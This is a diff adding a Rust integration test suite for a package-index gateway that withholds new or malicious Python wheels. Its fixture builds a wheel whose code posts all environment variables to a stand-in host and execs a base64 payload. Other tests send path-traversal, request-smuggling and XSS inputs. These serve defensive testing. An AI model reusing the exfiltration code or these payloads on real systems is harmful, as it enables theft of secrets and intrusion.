@@ -1,0 +1,523 @@
+//! `hognose gateway`, asked the way installers and attackers ask.
+
+#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]
+
+#[path = "inspect/archives.rs"]
+#[allow(dead_code, unfulfilled_lint_expectations, reason = "a part is used")]
+mod archives;
+mod common;
+
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::TcpStream;
+use std::process::{Child, Stdio};
+use std::time::{Duration, Instant};
+
+use common::upstream::{Answer, Upstream, hex};
+use common::{Sandbox, root};
+
+/// A gateway in a process of its own, ended with the test.
+struct Running {
+    process: Child,
+    address: String,
+}
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.process.kill();
+        let _ = self.process.wait();
+    }
+}
+
+/// What was answered.
+#[derive(Debug)]
+struct Got {
+    line: String,
+    head: String,
+    body: Vec<u8>,
+}
+
+impl Got {
+    fn status(&self) -> u16 {
+        self.line.split(' ').nth(1).unwrap().parse().unwrap()
+    }
+
+    fn header(&self, name: &str) -> Option<String> {
+        self.head.lines().find_map(|line| {
+            let (key, value) = line.split_once(": ")?;
+            key.eq_ignore_ascii_case(name).then(|| value.to_owned())
+        })
+    }
+
+    fn text(&self) -> String {
+        String::from_utf8_lossy(&self.body).into_owned()
+    }
+}
+
+impl Running {
+    fn start(sandbox: &Sandbox, upstream: &str, configuration: &str) -> Self {
+        sandbox.write("hognose.toml", configuration);
+        let feed = root().join("examples/feeds");
+        let made = sandbox.command(&[]);
+        let mut command = std::process::Command::new(made.get_program());
+        command.env_clear().current_dir(sandbox.work());
+        for (name, value) in made.get_envs() {
+            if let Some(value) = value {
+                command.env(name, value);
+            }
+        }
+        let mut process = command
+            .env_remove("PIP_NO_INDEX")
+            .env("VIRTUAL_ENV", sandbox.work())
+            .args([
+                "gateway",
+                "--listen",
+                "127.0.0.1:0",
+                "--index-url",
+                upstream,
+            ])
+            .arg("--feed")
+            .arg(feed)
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut lines = BufReader::new(process.stderr.take().unwrap()).lines();
+        let address = lines
+            .by_ref()
+            .map_while(Result::ok)
+            .find_map(|line| {
+                let rest = line.split("http://").nth(1)?;
+                Some(rest.split('/').next()?.to_owned())
+            })
+            .expect("it says where it listens");
+        // What it says later must not fill the pipe.
+        std::thread::spawn(move || lines.count());
+        Self { process, address }
+    }
+
+    fn ask(&self, path: &str, headers: &str) -> Got {
+        self.raw(&format!(
+            "GET {path} HTTP/1.1\r\nHost: {}\r\n{headers}Connection: close\r\n\r\n",
+            self.address
+        ))
+    }
+
+    fn raw(&self, request: &str) -> Got {
+        let mut stream = TcpStream::connect(&self.address).unwrap();
+        stream
+            .set_read_timeout(Some(Duration::from_secs(60)))
+            .unwrap();
+        stream.write_all(request.as_bytes()).unwrap();
+        let mut all = Vec::new();
+        let _ = stream.read_to_end(&mut all);
+        let end = all
+            .windows(4)
+            .position(|w| w == b"\r\n\r\n")
+            .unwrap_or(all.len());
+        let head = String::from_utf8_lossy(&all[..end]).into_owned();
+        let (line, head) = head.split_once("\r\n").unwrap_or((&head, ""));
+        Got {
+            line: line.to_owned(),
+            head: head.to_owned(),
+            body: all.get(end + 4..).unwrap_or_default().to_vec(),
+        }
+    }
+}
+
+const JSON: &str = "Accept: application/vnd.pypi.simple.v1+json\r\n";
+/// Long before the time of every test.
+const OLD: &str = "data-upload-time=\"2024-01-02T03:04:05Z\"";
+/// A day before it.
+const YOUNG: &str = "data-upload-time=\"2026-11-17T11:00:00Z\"";
+
+fn good(version: &str) -> Vec<u8> {
+    archives::wheel("good", version, &[("good.py", "X = 1\n".to_owned())], "")
+}
+
+/// A shape, not a weapon: what is in the environment goes to nobody's host.
+fn bad() -> Vec<u8> {
+    let text = "import os, json, base64, urllib.request\nurllib.request.urlopen('http://example.invalid/c', data=base64.b64encode(json.dumps(dict(os.environ)).encode()))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    archives::wheel("good", "3.0", &[("good/__init__.py", text.to_owned())], "")
+}
+
+struct Set {
+    sandbox: Sandbox,
+    upstream: Upstream,
+    old: Vec<u8>,
+}
+
+impl Set {
+    fn new() -> Self {
+        let upstream = Upstream::new();
+        let (old, young, bad) = (good("1.0"), good("2.0"), bad());
+        upstream.project(
+            "good",
+            &[
+                ("good-1.0-py3-none-any.whl", &old, OLD),
+                ("good-2.0-py3-none-any.whl", &young, YOUNG),
+                ("good-3.0-py3-none-any.whl", &bad, OLD),
+            ],
+        );
+        Self {
+            sandbox: Sandbox::new(),
+            upstream,
+            old,
+        }
+    }
+
+    fn start(&self) -> Running {
+        Running::start(&self.sandbox, &self.upstream.url(), "")
+    }
+
+    fn path(&self, version: &str, bytes: &[u8]) -> String {
+        format!("/files/good/{}/good-{version}-py3-none-any.whl", hex(bytes))
+    }
+}
+
+#[test]
+fn pages_in_every_form() {
+    let set = Set::new();
+    let gateway = set.start();
+    let json = gateway.ask("/simple/good/", JSON);
+    assert_eq!(json.status(), 200);
+    assert_eq!(
+        json.header("content-type").as_deref(),
+        Some("application/vnd.pypi.simple.v1+json")
+    );
+    assert_eq!(
+        json.header("vary").as_deref(),
+        Some("Accept, Authorization")
+    );
+    let page: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
+    assert_eq!(page["meta"]["api-version"], "1.4");
+    assert_eq!(page["versions"], serde_json::json!(["1.0", "2.0", "3.0"]));
+    let young = &page["files"][1];
+    let reason = young["yanked"].as_str().unwrap();
+    assert!(
+        reason.starts_with("withheld by policy: HOG-STATUS-new"),
+        "{reason}"
+    );
+    assert!(young.get("core-metadata").is_none());
+    assert_eq!(page["files"][0]["yanked"], false);
+    assert_eq!(page["files"][0]["core-metadata"], true);
+    assert_eq!(page["files"][0]["upload-time"], "2024-01-02T03:04:05Z");
+    assert_eq!(json.header("x-hognose-withheld").as_deref(), Some("2.0"));
+    let html = gateway.ask("/simple/good/", "");
+    assert!(
+        html.header("content-type")
+            .unwrap()
+            .starts_with("text/html")
+    );
+    assert!(
+        html.text()
+            .contains("<meta name=\"pypi:repository-version\" content=\"1.4\">")
+    );
+    assert!(
+        html.text()
+            .contains("data-yanked=\"withheld by policy: HOG-STATUS-new")
+    );
+    // Nothing changed: nothing is sent again.
+    let etag = json.header("etag").unwrap();
+    let again = gateway.ask("/simple/good/", &format!("{JSON}If-None-Match: {etag}\r\n"));
+    assert_eq!((again.status(), again.body.len()), (304, 0));
+    assert_eq!(
+        gateway
+            .ask("/simple/good/", "Accept: image/png\r\n")
+            .status(),
+        406
+    );
+    let moved = gateway.ask("/simple/Good", "");
+    assert_eq!(moved.status(), 301);
+    assert_eq!(moved.header("location").as_deref(), Some("/simple/good/"));
+    let head = gateway.raw("HEAD /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+    assert_eq!((head.status(), head.body.len()), (200, 0));
+    assert_eq!(gateway.raw("POST /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n").status(), 405);
+    assert_eq!(gateway.ask("/simple/nobody/", "").status(), 404);
+    // The upstream was asked once for each project, whatever was asked of us.
+    let asked = set.upstream.seen();
+    let pages = asked.iter().filter(|p| *p == "/simple/good/").count();
+    assert_eq!(pages, 1, "{asked:?}");
+}
+
+#[test]
+fn files_are_served_refused_and_cut() {
+    let set = Set::new();
+    let gateway = set.start();
+    let path = set.path("1.0", &set.old);
+    let file = gateway.ask(&path, "");
+    assert_eq!(
+        (file.status(), &file.body),
+        (200, &set.old),
+        "{}",
+        file.text()
+    );
+    assert!(file.header("cache-control").unwrap().contains("immutable"));
+    let part = gateway.ask(&path, "Range: bytes=10-19\r\n");
+    assert_eq!(
+        (part.status(), part.body.as_slice()),
+        (206, &set.old[10..20])
+    );
+    let size = set.old.len();
+    assert_eq!(
+        part.header("content-range"),
+        Some(format!("bytes 10-19/{size}"))
+    );
+    assert_eq!(gateway.ask(&path, "Range: bytes=999999-\r\n").status(), 416);
+    let etag = file.header("etag").unwrap();
+    assert_eq!(
+        gateway
+            .ask(&path, &format!("If-None-Match: {etag}\r\n"))
+            .status(),
+        304
+    );
+    let metadata = gateway.ask(&format!("{path}.metadata"), "");
+    assert!(
+        metadata.text().starts_with("Metadata-Version:"),
+        "{}",
+        metadata.text()
+    );
+    let fetched = set.upstream.seen();
+    let times = fetched
+        .iter()
+        .filter(|p| p.contains("good-1.0") && !p.contains("metadata"));
+    assert!(times.count() <= 2, "{fetched:?}");
+    // Too young, by the page alone: its bytes are not even fetched.
+    let young = gateway.ask(&set.path("2.0", &good("2.0")), "");
+    assert_eq!(young.status(), 403);
+    assert!(
+        young.line.contains("Withheld by policy: HOG-STATUS-new"),
+        "{}",
+        young.line
+    );
+    assert_eq!(
+        young.header("content-type").as_deref(),
+        Some("application/problem+json")
+    );
+    assert!(young.text().contains("\"detail\""), "{}", young.text());
+    assert!(set.upstream.seen().is_empty());
+    // Malicious, by its bytes: they are fetched and not passed on, and the page says so from then on.
+    let bytes = bad();
+    let refused = gateway.ask(&set.path("3.0", &bytes), "");
+    assert_eq!(refused.status(), 403, "{}", refused.line);
+    assert!(refused.line.contains("HOG-MAL-"), "{}", refused.line);
+    let page = gateway.ask("/simple/good/", JSON);
+    assert_eq!(
+        page.header("x-hognose-withheld").as_deref(),
+        Some("3.0, 2.0")
+    );
+}
+
+#[test]
+fn paths_that_are_not_ours() {
+    let set = Set::new();
+    let gateway = set.start();
+    let digest = hex(&set.old);
+    for path in [
+        "/simple/../../etc/passwd",
+        "/simple/..%2F..%2Fetc/",
+        "/files/good/-/../../../etc/passwd",
+        "/files/good/-/..%2f..%2fhognose.toml",
+        "/files/good/-/%2e%2e%5chognose.toml",
+        "/files/good/-/%252e%252e%252fhognose.toml",
+        "/files/good/-/good-1.0-py3-none-any.whl",
+        &format!("/files/other/{digest}/good-1.0-py3-none-any.whl"),
+        &format!("/files/good/{}/good-1.0-py3-none-any.whl", "0".repeat(64)),
+        &format!("/files/good/{digest}/good-9.0-py3-none-any.whl"),
+        "/http://example.invalid/",
+        "/admin",
+    ] {
+        assert_eq!(gateway.ask(path, "").status(), 404, "{path}");
+    }
+    // What is no HTTP, what is too large, what smuggles.
+    for request in [
+        "GET /simple/good/ HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n".to_owned(),
+        format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(900_000)),
+        "GET /a\u{0} HTTP/1.1\r\n\r\n".to_owned(),
+    ] {
+        let got = gateway.raw(&request);
+        assert!(got.line.is_empty() || got.status() >= 400, "{}", got.line);
+    }
+    assert_eq!(gateway.ask("/healthz", "").status(), 200);
+    assert!(
+        gateway
+            .ask("/metrics", "")
+            .text()
+            .contains("hognose_requests_total")
+    );
+}
+
+#[test]
+fn an_upstream_that_fails_makes_nothing_absent() {
+    let set = Set::new();
+    set.upstream.put("/simple/broken/", Answer::status(500));
+    set.upstream.put("/simple/denied/", Answer::status(403));
+    let gateway = set.start();
+    for name in ["broken", "denied"] {
+        let got = gateway.ask(&format!("/simple/{name}/"), JSON);
+        assert_eq!(got.status(), 503, "{}", got.line);
+        assert!(got.text().contains("could not be asked"), "{}", got.text());
+    }
+}
+
+#[test]
+fn one_fetch_for_a_crowd() {
+    let set = Set::new();
+    let large = archives::wheel("good", "1.0", &[("good.py", "X = 1\n".repeat(200_000))], "");
+    set.upstream
+        .project("good", &[("good-1.0-py3-none-any.whl", &large, OLD)]);
+    let slow = Answer {
+        pause: Duration::from_millis(700),
+        ..Answer::file(large.clone())
+    };
+    set.upstream.put("/files/good-1.0-py3-none-any.whl", slow);
+    let gateway = set.start();
+    let path = set.path("1.0", &large);
+    std::thread::scope(|scope| {
+        let askers: Vec<_> = (0..64)
+            .map(|_| scope.spawn(|| gateway.ask(&path, "")))
+            .collect();
+        for asker in askers {
+            let got = asker.join().unwrap();
+            assert_eq!((got.status(), got.body.len()), (200, large.len()));
+        }
+    });
+    let seen = set.upstream.seen();
+    let files = seen.iter().filter(|p| p.starts_with("/files/")).count();
+    let pages = seen.iter().filter(|p| *p == "/simple/good/").count();
+    assert_eq!((files, pages), (1, 1), "{seen:?}");
+}
+
+#[test]
+fn bytes_come_on_before_all_are_there() {
+    let set = Set::new();
+    let large: Vec<u8> =
+        archives::wheel("good", "1.0", &[("good.py", "X = 1\n".repeat(200_000))], "");
+    set.upstream
+        .project("good", &[("good-1.0-py3-none-any.whl", &large, OLD)]);
+    let slow = Answer {
+        pause: Duration::from_secs(3),
+        ..Answer::file(large.clone())
+    };
+    set.upstream.put("/files/good-1.0-py3-none-any.whl", slow);
+    let gateway = Running::start(
+        &set.sandbox,
+        &set.upstream.url(),
+        "[gateway]\ninspect = false\n",
+    );
+    let mut stream = TcpStream::connect(&gateway.address).unwrap();
+    let path = set.path("1.0", &large);
+    let began = Instant::now();
+    write!(
+        stream,
+        "GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+    )
+    .unwrap();
+    let mut first = [0; 2_000];
+    stream.read_exact(&mut first).unwrap();
+    assert!(
+        began.elapsed() < Duration::from_secs(2),
+        "{:?}",
+        began.elapsed()
+    );
+    let mut rest = Vec::new();
+    stream.read_to_end(&mut rest).unwrap();
+    assert!(rest.len() + first.len() > large.len());
+}
+
+#[test]
+fn what_has_another_digest_is_never_whole() {
+    let set = Set::new();
+    let other = good("1.5");
+    set.upstream.put(
+        "/files/good-1.0-py3-none-any.whl",
+        Answer::file(other.clone()),
+    );
+    for configuration in ["", "[gateway]\ninspect = false\n"] {
+        let sandbox = Sandbox::new();
+        let gateway = Running::start(&sandbox, &set.upstream.url(), configuration);
+        let got = gateway.ask(&set.path("1.0", &set.old), "");
+        assert!(
+            got.status() == 503 || got.body.len() < other.len(),
+            "{}",
+            got.line
+        );
+        // Nothing of it was kept.
+        let kept = walk(&sandbox.cache().join("artifacts"));
+        assert!(kept.is_empty(), "{kept:?}");
+    }
+}
+
+#[test]
+fn a_cut_download_is_cut_here_too() {
+    let set = Set::new();
+    let cut = Answer {
+        claimed: Some(set.old.len() + 100),
+        ..Answer::file(set.old.clone())
+    };
+    set.upstream.put("/files/good-1.0-py3-none-any.whl", cut);
+    let gateway = set.start();
+    assert_eq!(gateway.ask(&set.path("1.0", &set.old), "").status(), 503);
+    // Once the upstream is well again, so is the gateway.
+    set.upstream.put(
+        "/files/good-1.0-py3-none-any.whl",
+        Answer::file(set.old.clone()),
+    );
+    assert_eq!(gateway.ask(&set.path("1.0", &set.old), "").status(), 200);
+}
+
+#[test]
+fn markup_of_upstreams_is_not_passed_on() {
+    let set = Set::new();
+    let page = format!(
+        "<html><head><base href=\"http://example.invalid/\"><script>alert(1)</script></head><body onload=\"x\"><a href=\"/files/good-1.0-py3-none-any.whl#sha256={}\" onclick=\"x\" data-requires-python=\"&gt;=3&quot;&gt;&lt;script&gt;\" {OLD}>good-1.0-py3-none-any.whl</a><a href=\"javascript:alert(1)\">good-1.1-py3-none-any.whl</a></body></html>",
+        hex(&set.old)
+    );
+    set.upstream.put("/simple/good/", Answer::html(page));
+    let gateway = set.start();
+    let html = gateway.ask("/simple/good/", "").text();
+    for mark in [
+        "<script",
+        "onclick",
+        "onload",
+        "javascript:",
+        "<base",
+        "example.invalid",
+    ] {
+        assert!(!html.contains(mark), "{mark} in {html}");
+    }
+}
+
+#[test]
+fn names_that_are_owned_are_asked_of_their_owner_alone() {
+    let (owner, public) = (Upstream::new(), Upstream::new());
+    let (mine, theirs) = (good("1.0"), good("9999.0"));
+    public.project("good", &[("good-9999.0-py3-none-any.whl", &theirs, OLD)]);
+    let sandbox = Sandbox::new();
+    let configuration = format!(
+        "[[gateway.upstream]]\nname = \"public\"\nurl = \"{}\"\n[[gateway.upstream]]\nname = \"ours\"\nurl = \"{}\"\nowned = [\"good*\"]\n",
+        public.url(),
+        owner.url()
+    );
+    let gateway = Running::start(&sandbox, &public.url(), &configuration);
+    // The owner does not have it: then nobody has.
+    assert_eq!(gateway.ask("/simple/good/", JSON).status(), 404);
+    // The owner does not answer: then nobody knows.
+    owner.put("/simple/good-two/", Answer::status(500));
+    assert_eq!(gateway.ask("/simple/good-two/", JSON).status(), 503);
+    owner.project("good-three", &[]);
+    owner.put("/simple/good-three/", Answer::html(format!("<a href=\"/files/good_three-1.0-py3-none-any.whl#sha256={}\">good_three-1.0-py3-none-any.whl</a>", hex(&mine))));
+    let page = gateway.ask("/simple/good-three/", JSON);
+    assert_eq!(page.status(), 200);
+    assert!(public.seen().is_empty());
+}
+
+fn walk(folder: &std::path::Path) -> Vec<String> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
+        if entry.path().is_dir() {
+            out.extend(walk(&entry.path()));
+        } else {
+            out.push(entry.path().display().to_string());
+        }
+    }
+    out
+}
